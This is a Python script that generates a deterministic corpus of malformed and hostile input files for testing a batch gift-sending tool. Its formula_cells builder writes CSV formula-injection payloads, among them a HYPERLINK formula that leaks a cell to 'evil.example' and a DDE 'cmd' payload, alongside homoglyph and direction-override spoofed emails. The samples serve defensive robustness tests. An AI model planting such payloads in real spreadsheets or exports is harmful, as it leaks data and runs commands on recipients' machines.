"""Write the hostile input corpus of tests/data/hostile/: files a batch run must survive.

    .venv/bin/python scripts/make_hostile_corpus.py [--out DIR]

Deterministic: the same bytes on every run and machine, so the committed corpus is checked
against this script by tests/batch/test_hostile_files.py. Files whose point is their size
(a 1 MB cell, 100,000 columns, a 5 MB line, a 10 MB message) are committed gzipped, written
with no name and no timestamp in the gzip header, and the tests unpack them into a temporary
directory. The compressed bytes depend on the zlib build, so those files are compared by
their unpacked content; every other file is compared byte for byte.
"""

from __future__ import annotations

import argparse
import gzip
import io
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path

DEFAULT_OUT = Path(__file__).resolve().parents[1] / "tests" / "data" / "hostile"

#: An eGift the sandbox's catalog holds: a row needs no address to be valid.
GIFT = "gft_egift_amazon_us_25"
HEADER = ("First Name", "Last Name", "Email", "Gift", "Message")
MB = 1024 * 1024


def _row(n: int, **cells: str) -> list[str]:
    values = {
        "first": f"Ada{n}",
        "last": "Lovelace",
        "email": f"ada{n}@example.com",
        "gift": GIFT,
        "message": f"Thank you, Ada{n}!",
    }
    values.update(cells)
    return [values["first"], values["last"], values["email"], values["gift"], values["message"]]


def _quote(cell: str, delimiter: str) -> str:
    if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def _csv(
    rows: Iterable[Sequence[str]],
    *,
    header: Sequence[str] = HEADER,
    delimiter: str = ",",
    newline: str = "\r\n",
) -> str:
    lines = [header, *rows]
    return "".join(delimiter.join(_quote(c, delimiter) for c in line) + newline for line in lines)


def _line(cells: Sequence[str], newline: str = "\r\n") -> str:
    return ",".join(_quote(c, ",") for c in cells) + newline


def _gzip(data: bytes) -> bytes:
    out = io.BytesIO()
    # mtime=0 and no file name: the header carries nothing that changes between runs.
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as f:
        f.write(data)
    return out.getvalue()


def _png() -> bytes:
    """A valid 1x1 grey PNG. Its zlib stream is a single stored block written by hand,
    so no compressor (and no compressor version) is involved."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    raw = b"\x00\x7f"  # filter byte, one grey pixel
    stored = b"\x01" + struct.pack("<HH", len(raw), 0xFFFF ^ len(raw)) + raw
    idat = b"\x78\x01" + stored + struct.pack(">I", zlib.adler32(raw))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _xlsx() -> bytes:
    """A zip with an Excel-like member, stored uncompressed with a fixed date."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
        info.create_system = 3
        info.external_attr = 0o644 << 16
        archive.writestr(info, _csv([_row(2)]).encode())
    return out.getvalue()


# --- the files --------------------------------------------------------------------------
# Each builder returns the file's bytes; DESCRIPTIONS says what it is and what a run
# must do with it (the tests assert exactly that).


def bom_utf8() -> bytes:
    return ("\ufeff" + _csv([_row(2), _row(3, first="Zoë", last="Müller")])).encode()


def bom_utf16le() -> bytes:
    # Excel's "Unicode Text": UTF-16 little-endian with a BOM, tab-separated.
    text = _csv([_row(2), _row(3, first="Zoë", last="Müller")], delimiter="\t")
    return b"\xff\xfe" + text.encode("utf-16-le")


def bom_utf16be() -> bytes:
    return b"\xfe\xff" + _csv([_row(2), _row(3, first="Zoë")]).encode("utf-16-be")


def utf16le_no_bom() -> bytes:
    return _csv([_row(2)]).encode("utf-16-le")


def mixed_encodings() -> bytes:
    # Rows pasted together from two exports: UTF-8, then one row in Windows-1252.
    head = _csv([_row(2, first="Zoë"), _row(3)]).encode()
    return head + _line(_row(4, first="Renée")).encode("cp1252") + _line(_row(5)).encode()


def latin1() -> bytes:
    return _csv([_row(2), _row(3, first="José", last="Muñoz")]).encode("latin-1")


def nul_in_cell() -> bytes:
    # A long (but allowed) note first, so that the NUL lies past the 8 KB that are sniffed.
    note = "n" * 9_000
    header = (*HEADER, "Notes")
    rows = [[*_row(2), note], [*_row(3, first="Ada\x00"), ""], [*_row(4), ""]]
    return _csv(rows, header=header).encode()


def nul_in_header() -> bytes:
    return _csv(
        [_row(2)], header=("First\x00Name", "Last Name", "Email", "Gift", "Message")
    ).encode()


def cell_1mb() -> bytes:
    return _csv([_row(2, message="x" * MB), _row(3)]).encode()


def columns_100k() -> bytes:
    header = [*HEADER, *(f"c{n}" for n in range(len(HEADER), 100_000))]
    filled = [*_row(2), *("v" for _ in range(len(HEADER), 100_000))]
    sparse = [*_row(3), *("" for _ in range(len(HEADER), 100_000))]
    return _csv([filled, sparse], header=header).encode()


def unbalanced_quotes() -> bytes:
    # The quote opened on row 4 is closed by the first quote of the next line, as a
    # spreadsheet would read it too: row 4 swallows that line and has too few cells.
    rows = _csv([_row(2), _row(3)])
    broken = 'Bob,"Smith,bob@example.com,' + GIFT + ",Thanks\r\n"
    return (rows + broken + _line(_row(5)) + _line(_row(6))).encode()


def unclosed_quote() -> bytes:
    # No quote anywhere after the one opened on row 4: the rest of the file is one cell.
    rows = [_row(n, message=f"Thanks Ada{n}") for n in (2, 3)]
    broken = 'Bob,"Smith,bob@example.com,' + GIFT + ",Thanks\r\n"
    tail = [_row(n, message=f"Thanks Ada{n}") for n in (5, 6)]
    return (_csv(rows) + broken + "".join(_line(r) for r in tail)).encode()


def stray_quotes() -> bytes:
    # Quotes inside unquoted cells: what hand-edited files contain; readable, not an error.
    lines = [
        ",".join(HEADER) + "\r\n",
        'Ada "the Countess",Lovelace,ada2@example.com,' + GIFT + ",Thanks\r\n",
        "O'Brien,Conan,obrien@example.com," + GIFT + ",It's yours\r\n",
        '"Grace"x,Hopper,grace@example.com,' + GIFT + ',"Thanks ""Amazing"" Grace"\r\n',
    ]
    return "".join(lines).encode()


def formula_cells() -> bytes:
    rows = [
        _row(2, first='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', last="Doe"),
        _row(3, first="+SUM(1,2)", last="-1", email="-2+3@example.com", message="@cmd"),
        _row(4, first="@SUM(A1:A9)", last="=1+1", message="=cmd|' /C calc'!A0"),
        _row(5, first="Eve", email="=1+2", message="-2+3"),
        _row(6, first="\t=1+1", email="+eve@example.com"),
    ]
    return _csv(rows).encode()


def homoglyph_rtl_emails() -> bytes:
    nfd_zoe = unicodedata.normalize("NFD", "zoë@example.com")
    rows = [
        _row(2, email="ada@example.com"),
        _row(3, email="\u0430da@example.com"),  # Cyrillic a in the local part
        _row(4, email="ada@ex\u0430mple.com"),  # Cyrillic a in the domain
        _row(5, email="ada\u202e@example.com"),  # right-to-left override
        _row(6, email="\u202emoc.elpmaxe@ada"),
        _row(7, email="ada\u200b@example.com"),  # zero-width space
        _row(8, email="ada\uff20example.com"),  # full-width at sign
        _row(9, first="Ada\u202e", email="ada9@example.com"),  # override in a name
        _row(10, email="zoë@example.com"),
        _row(11, email=nfd_zoe),  # the same address, decomposed: a duplicate of row 10
        _row(12, email="ADA@EXAMPLE.COM"),  # the same address as row 2
    ]
    return _csv(rows).encode()


def duplicate_headers() -> bytes:
    return _csv([[*_row(2), "ada.other@example.com"]], header=(*HEADER, "Email")).encode()


def empty() -> bytes:
    return b""


def header_only() -> bytes:
    return _csv([]).encode()


def not_text_png() -> bytes:
    return _png()


def workbook_xlsx() -> bytes:
    return _xlsx()


def crlf() -> bytes:
    return _csv([_row(2), _row(3, message="Line one\r\nLine two")]).encode()


def cr_only() -> bytes:
    # Classic Mac OS line endings.
    return _csv([_row(2), _row(3)], newline="\r").encode()


def mixed_line_endings() -> bytes:
    return (_csv([_row(2)], newline="\n") + _line(_row(3), "\r") + _line(_row(4), "\r\n")).encode()


def _object(n: int, **extra: str) -> str:
    """One JSON Lines record; values are written as given (escapes stay escapes)."""
    fields = {
        "first_name": f"Ada{n}",
        "last_name": "Lovelace",
        "email": f"ada{n}@example.com",
        "gift_id": GIFT,
        "message": f"Thank you, Ada{n}!",
    }
    fields.update(extra)
    return "{" + ", ".join(f'"{k}": "{v}"' for k, v in fields.items()) + "}"


def broken_jsonl() -> bytes:
    obj = _object
    lines = [
        obj(1),
        '{"first_name": "Bob", "email": ',  # cut off
        '"just a string"',
        "[1, 2, 3]",
        "42",
        "null",
        obj(7)[:-1] + ', "contact_id": 1e400, "score": 123456789012345678901234567890}',
        obj(8)[:-1] + ', "amount": NaN, "rank": -Infinity}',
        '{"first_name": "Cy", "last_name": "X", "email": 12345678901234567890123, '
        '"gift_id": "' + GIFT + '", "message": "Hi"}',
        '{"email": "d@example.com", "x": ' + "[" * 50_000 + "]" * 50_000 + "}",
        obj(11, message="bad \\ud800 escape"),
        obj(12, message="nul \\u0000 inside"),
        obj(13)[:-1] + ', "tags": ["a", "b"]}',
        "",
        obj(15),  # the last line has no line break
    ]
    return ("\n".join(lines)).encode()


def long_line_csv() -> bytes:
    # One unquoted line of 5 MB: longer than any record is allowed to be.
    return _csv(
        [_row(2, message="y" * (5 * MB)), _row(3, first="Zed", email="zed@example.com")]
    ).encode()


def long_line_jsonl() -> bytes:
    lines = [_object(1), _object(2, message="y" * (5 * MB)), _object(3)]
    return "".join(line + "\n" for line in lines).encode()


def message_10mb_csv() -> bytes:
    # Quoted (it holds a line break), so the record runs over many lines.
    return _csv([_row(2, message="Dear Ada,\n" + "z" * (10 * MB)), _row(3)]).encode()


def many_keys_jsonl() -> bytes:
    keys = ", ".join(f'"k{n}": 1' for n in range(20_000))
    wide = _object(2)[:-1] + ", " + keys + "}"
    return "".join(line + "\n" for line in (_object(1), wide, _object(3))).encode()


def message_10mb_jsonl() -> bytes:
    lines = (_object(1), _object(2, message="z" * (10 * MB)))
    return "".join(line + "\n" for line in lines).encode()


Builder = Callable[[], bytes]

#: file name -> (builder, gzipped, what it is and what a run must do with it)
FILES: dict[str, tuple[Builder, bool, str]] = {
    "bom_utf8.csv": (bom_utf8, False, "UTF-8 with a BOM, CRLF: read; both rows valid"),
    "bom_utf16le.txt": (
        bom_utf16le,
        False,
        "Excel 'Unicode Text' (UTF-16LE + BOM, tabs): read; both rows valid",
    ),
    "bom_utf16be.csv": (bom_utf16be, False, "UTF-16BE + BOM: read; both rows valid"),
    "utf16le_no_bom.csv": (
        utf16le_no_bom,
        False,
        "UTF-16 without a BOM: refused as not text (NUL bytes in the first 8 KB)",
    ),
    "mixed_encodings.csv": (
        mixed_encodings,
        False,
        "UTF-8 with one Windows-1252 row: refused, naming row 4",
    ),
    "latin1.csv": (
        latin1,
        False,
        "Latin-1: refused naming row 3; read with --encoding latin-1",
    ),
    "nul_in_cell.csv": (nul_in_cell, False, "a NUL past the first 8 KB: row 3 invalid"),
    "nul_in_header.csv": (nul_in_header, False, "a NUL in the header: refused as not text"),
    "cell_1mb.csv.gz": (cell_1mb, True, "a 1 MB message cell: row 2 invalid, row 3 valid"),
    "columns_100k.csv.gz": (
        columns_100k,
        True,
        "100,000 columns: refused, naming row 1 and the 16,384-column limit",
    ),
    "unbalanced_quotes.csv": (
        unbalanced_quotes,
        False,
        "a quote opened on row 4, closed on the next line: row 4 invalid (cell count), "
        "rows 2, 3 and 5 valid",
    ),
    "unclosed_quote.csv": (
        unclosed_quote,
        False,
        "a quote opened on row 4 and never closed: refused, naming row 4",
    ),
    "stray_quotes.csv": (stray_quotes, False, "quotes inside unquoted cells: all rows valid"),
    "formula_cells.csv": (
        formula_cells,
        False,
        "cells starting = + - @ and tab: rows 2-4 and 6 valid, row 5 invalid; "
        "every such cell neutralised in the CSV report",
    ),
    "homoglyph_rtl_emails.csv": (
        homoglyph_rtl_emails,
        False,
        "look-alike, direction-override and zero-width emails; NFD and upper-case duplicates",
    ),
    "duplicate_headers.csv": (
        duplicate_headers,
        False,
        "Email twice in the header: refused, naming the column",
    ),
    "empty.csv": (empty, False, "zero bytes: refused as empty"),
    "header_only.csv": (header_only, False, "a header and no rows: nothing to send"),
    "not_text.png": (not_text_png, False, "a PNG image: refused as not text"),
    "workbook.xlsx": (workbook_xlsx, False, "a zip (Excel workbook): refused, asking for CSV"),
    "crlf.csv": (crlf, False, "CRLF endings and a CRLF inside a quoted cell: both rows valid"),
    "cr_only.csv": (cr_only, False, "CR-only (classic Mac) endings: both rows valid"),
    "mixed_line_endings.csv": (
        mixed_line_endings,
        False,
        "LF, CR and CRLF in one file: all rows valid",
    ),
    "broken.jsonl": (
        broken_jsonl,
        False,
        "cut-off lines, non-objects, 1e400, NaN, deep nesting, bad escapes: a verdict per line",
    ),
    "long_line.csv.gz": (
        long_line_csv,
        True,
        "an unquoted 5 MB line: refused, naming row 2 (no fragment becomes a row)",
    ),
    "long_line.jsonl.gz": (
        long_line_jsonl,
        True,
        "a 5 MB JSON line: line 2 invalid, lines 1 and 3 valid",
    ),
    "many_keys.jsonl.gz": (
        many_keys_jsonl,
        True,
        "a JSON line with 20,005 keys: line 2 invalid, lines 1 and 3 valid",
    ),
    "message_10mb.csv.gz": (
        message_10mb_csv,
        True,
        "a 10 MB quoted message: refused, naming row 2",
    ),
    "message_10mb.jsonl.gz": (
        message_10mb_jsonl,
        True,
        "a 10 MB message in JSON Lines: line 2 invalid, line 1 valid",
    ),
}


def build() -> dict[str, bytes]:
    """Every file of the corpus by name, as committed (gzipped where the name says so),
    plus the README that lists them."""
    files: dict[str, bytes] = {}
    index = [
        "# Hostile input files",
        "",
        "Generated by `scripts/make_hostile_corpus.py`; do not edit.",
        "",
    ]
    for name, (builder, gzipped, description) in FILES.items():
        data = builder()
        files[name] = _gzip(data) if gzipped else data
        # Unpacked sizes only: the packed ones vary with the zlib build.
        size = f"{len(data):,} bytes" + (" unpacked" if gzipped else "")
        index.append(f"- `{name}` ({size}): {description}")
    files["README.md"] = ("\n".join(index) + "\n").encode()
    return files


def unpack(name: str, data: bytes) -> tuple[str, bytes]:
    """A committed file as a run reads it: ``.gz`` files decompressed, without the suffix."""
    if name.endswith(".gz"):
        return name.removesuffix(".gz"), gzip.decompress(data)
    return name, data


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="directory to write")
    args = parser.parse_args(argv)
    out: Path = args.out
    out.mkdir(parents=True, exist_ok=True)
    total = 0
    for name, data in build().items():
        (out / name).write_bytes(data)
        total += len(data)
    print(f"wrote {len(FILES)} files and README.md to {out} ({total:,} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
